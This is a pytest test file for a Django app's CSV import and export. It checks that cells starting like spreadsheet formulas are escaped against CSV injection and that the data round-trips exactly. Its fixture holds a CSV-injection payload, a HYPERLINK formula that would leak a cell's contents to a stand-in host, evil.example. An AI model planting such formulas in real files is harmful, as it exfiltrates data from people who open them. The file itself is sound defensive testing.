"""CSV files open safely in a spreadsheet and still round-trip exactly (OWASP CSV injection; claims.spreadsheet)."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from claims.models import Claim
from claims.spreadsheet import FORMULA_STARTS, csv_cell, escape_text, unescape_text
from tests.claims.test_interchange import GOOD, wipe, write_rows

HOSTILE = {
    "statement": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "quote": "+44 were killed",
    "translation": "-- as reported",
    "claimant": "@mod_spokesman",
    "source_title": "'=already an apostrophe",
}
"""What each text column stores: formulas, and a text that itself starts with an apostrophe."""


def cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def command(*args) -> None:
    call_command(*args, stdout=io.StringIO(), stderr=io.StringIO())


@pytest.fixture
def hostile(db, tmp_path):
    """One claim whose text columns would run as formulas, imported from a spreadsheet-safe CSV."""
    row = {**GOOD, "source_url": "", **{column: escape_text(text) for column, text in HOSTILE.items()}}
    command("import_claims", str(write_rows(tmp_path / "safe.csv", [row])), "--no-progress")
    return Claim.objects.select_related("claimant").get(external_id=GOOD["external_id"])


def test_import_strips_the_one_apostrophe_that_export_adds(hostile):
    """A CSV cell '=x is stored as =x, and ''=x as '=x: the text as it was before it was made safe."""
    assert (hostile.statement, hostile.quote, hostile.translation, hostile.claimant.name) == (
        HOSTILE["statement"], HOSTILE["quote"], HOSTILE["translation"], HOSTILE["claimant"],
    )
    assert hostile.appearances.get().document.title == HOSTILE["source_title"]


def test_an_apostrophe_before_ordinary_text_is_kept(db, tmp_path):
    """'hello is not an escaped cell: it is stored with its apostrophe."""
    command("import_claims", str(write_rows(tmp_path / "plain.csv", [{**GOOD, "statement": "'hello"}])))
    assert Claim.objects.get().statement == "'hello"


def test_jsonl_is_never_unescaped(db, tmp_path):
    """JSON Lines keep strings as given: '=x stays '=x."""
    command("import_claims", str(write_rows(tmp_path / "one.jsonl", [{**GOOD, "statement": "'=x"}])))
    assert Claim.objects.get().statement == "'=x"


def test_export_escapes_every_text_cell_that_would_start_a_formula(hostile, tmp_path):
    """export_claims writes each such cell with one more leading apostrophe; numbers and dates as they are."""
    path = tmp_path / "out.csv"
    command("export_claims", str(path))
    (row,) = cells(path.read_text(encoding="utf-8"))
    assert {column: row[column] for column in HOSTILE} == {
        "statement": "'" + HOSTILE["statement"],
        "quote": "'+44 were killed",
        "translation": "'-- as reported",
        "claimant": "'@mod_spokesman",
        "source_title": "''=already an apostrophe",
    }
    assert (row["value"], row["stated_on"], row["contested"]) == ("2317", "2020-11-10", "false")


def test_export_import_export_is_identical(hostile, tmp_path):
    """The escaped export imports back into an empty database as the same claim, and exports the same bytes."""
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    command("export_claims", str(first))
    wipe()
    command("import_claims", str(first), "--no-progress")
    command("export_claims", str(second))
    strip_id = [{**row, "id": ""} for row in cells(first.read_text(encoding="utf-8"))]
    assert [{**row, "id": ""} for row in cells(second.read_text(encoding="utf-8"))] == strip_id


def test_jsonl_export_writes_text_as_stored(hostile, tmp_path):
    """No spreadsheet runs JSON Lines: the statement is exported exactly as stored."""
    path = tmp_path / "out.jsonl"
    command("export_claims", str(path))
    assert json.loads(path.read_text(encoding="utf-8"))["statement"] == HOSTILE["statement"]


def test_numbers_are_never_escaped_and_text_always_is():
    """A negative number in a numeric column stays a number; the same characters as text are escaped."""
    assert (csv_cell(-3), csv_cell(-2.5), csv_cell("-3"), csv_cell(None), csv_cell(True)) == (
        "-3", "-2.5", "'-3", "", "true",
    )
    assert [csv_cell(start + "x") for start in FORMULA_STARTS] == ["'" + start + "x" for start in FORMULA_STARTS]


@given(st.text())
def test_unescape_undoes_escape_for_every_text(text):
    """Whatever the text, escaping then unescaping gives it back, and the escaped text never starts a formula."""
    escaped = escape_text(text)
    assert unescape_text(escaped) == text
    assert not escaped.startswith(FORMULA_STARTS)
